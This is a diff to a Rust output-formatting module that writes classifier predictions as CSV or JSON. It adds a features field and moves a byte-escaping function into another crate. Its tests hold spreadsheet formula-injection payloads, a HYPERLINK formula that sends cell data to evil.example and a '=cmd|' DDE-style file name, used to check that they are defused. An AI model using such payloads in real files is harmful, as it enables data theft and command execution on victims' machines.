@@ -1,8 +1,6 @@
 //! A row of the output, as a line of CSV or JSON.
 
-use std::fmt::Write as _;
-
-use calmix_io::shown::is_command;
+pub use calmix_io::escaped::escaped;
 use calmix_run::csv_line::{CsvCell, csv_line};
 use serde::Serialize;
 
@@ -16,6 +14,8 @@ pub struct PredictedRow<'a> {
     /// The name of the input, as [`escaped`] writes it.
     pub name: String,
     pub prediction: Option<&'a Prediction>,
+    /// The features of the input, if they are requested and it could be read.
+    pub features: Option<&'a [f32]>,
     pub error: Option<String>,
 }
 
@@ -28,6 +28,8 @@ pub struct RowFormat<'a> {
     pub classes: &'a [String],
     /// Whether the probabilities of all classes are written.
     pub probabilities: bool,
+    /// Whether the features of the input are written.
+    pub features: bool,
     /// Rows of a Parquet file.
     pub rows_of_part: u64,
 }
@@ -46,6 +48,8 @@ struct JsonRow<'a> {
     error: Option<&'a str>,
     #[serde(skip_serializing_if = "Option::is_none")]
     probabilities: Option<&'a [f32]>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    features: Option<&'a [f32]>,
 }
 
 impl RowFormat<'_> {
@@ -85,7 +89,7 @@ impl RowFormat<'_> {
         }
     }
 
-    fn json(&self, PredictedRow { name, prediction, error }: &PredictedRow<'_>) -> String {
+    fn json(&self, PredictedRow { name, prediction, features, error }: &PredictedRow<'_>) -> String {
         let set = prediction.and_then(|prediction| prediction.set.as_ref());
         let row = JsonRow {
             path: (self.input == InputKind::Image).then_some(name),
@@ -99,12 +103,13 @@ impl RowFormat<'_> {
             probabilities: prediction
                 .filter(|_| self.probabilities)
                 .map(|prediction| prediction.probabilities.as_slice()),
+            features: *features,
         };
         // Texts and finite numbers can always be written.
         serde_json::to_string(&row).unwrap_or_default() + "\n"
     }
 
-    fn csv(&self, PredictedRow { name, prediction, error }: &PredictedRow<'_>) -> String {
+    fn csv(&self, PredictedRow { name, prediction, error, .. }: &PredictedRow<'_>) -> String {
         let class = |class: usize| escaped(self.class(class).as_bytes());
         let set = prediction.and_then(|prediction| prediction.set.as_ref());
         let set = set.map(|set| {
@@ -126,29 +131,6 @@ impl RowFormat<'_> {
         }
         csv_line(cells)
     }
-}
-
-/// Escapes bytes reversibly as text on one line: bytes that are not UTF-8, control characters and the backslash are written
-/// `\xNN`.
-pub fn escaped(bytes: &[u8]) -> String {
-    let mut text = String::with_capacity(bytes.len());
-    let hexadecimal = |bytes: &[u8], text: &mut String| {
-        for byte in bytes {
-            // Writing to a string does not fail.
-            let _ = write!(text, "\\x{byte:02x}");
-        }
-    };
-    for chunk in bytes.utf8_chunks() {
-        for c in chunk.valid().chars() {
-            if c == '\\' || is_command(c) {
-                hexadecimal(c.to_string().as_bytes(), &mut text);
-            } else {
-                text.push(c);
-            }
-        }
-        hexadecimal(chunk.invalid(), &mut text);
-    }
-    text
 }
 
 /// Makes a cell of an escaped text. An apostrophe in front marks a text that looks like a formula, so one of the text's own is
@@ -181,10 +163,11 @@ mod tests {
             input: InputKind::Image,
             classes: &classes,
             probabilities: false,
+            features: false,
             rows_of_part: 1,
         };
         let row = |path: &str, prediction| {
-            format.row(&PredictedRow { name: path.to_owned(), prediction, error: None })
+            format.row(&PredictedRow { name: path.to_owned(), prediction, features: None, error: None })
         };
         let class = "'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
         let expected = format!("'=cmd|calc.png,\"{class}\",0.75,-0.5,\"{class}|-1\",false,\n");
@@ -216,13 +199,20 @@ mod tests {
             input: InputKind::Image,
             classes: &classes,
             probabilities,
+            features: false,
             rows_of_part: 1,
         };
         let path = escaped(b"a\xffb\n\"\\.png");
         assert_eq!(path, r#"a\xffb\x0a"\x5c.png"#);
         let (csv, jsonl) = (format(RowKind::Csv, true), format(RowKind::Jsonl, false));
-        let image = PredictedRow { name: path.clone(), prediction: Some(&prediction), error: None };
-        let bad = PredictedRow { name: path.clone(), prediction: None, error: Some("no, image".to_owned()) };
+        let image =
+            PredictedRow { name: path.clone(), prediction: Some(&prediction), features: None, error: None };
+        let bad = PredictedRow {
+            name: path.clone(),
+            prediction: None,
+            features: None,
+            error: Some("no, image".to_owned()),
+        };
         let row = csv.row(&image);
         let start = r#""a\xffb\x0a""\x5c.png","#;
         assert_eq!(row, format!("{start}\"cat, big\",0.75,0.5,\"cat, big|a\\x7cb\\x0a\",false,,0.75,0.25\n"));
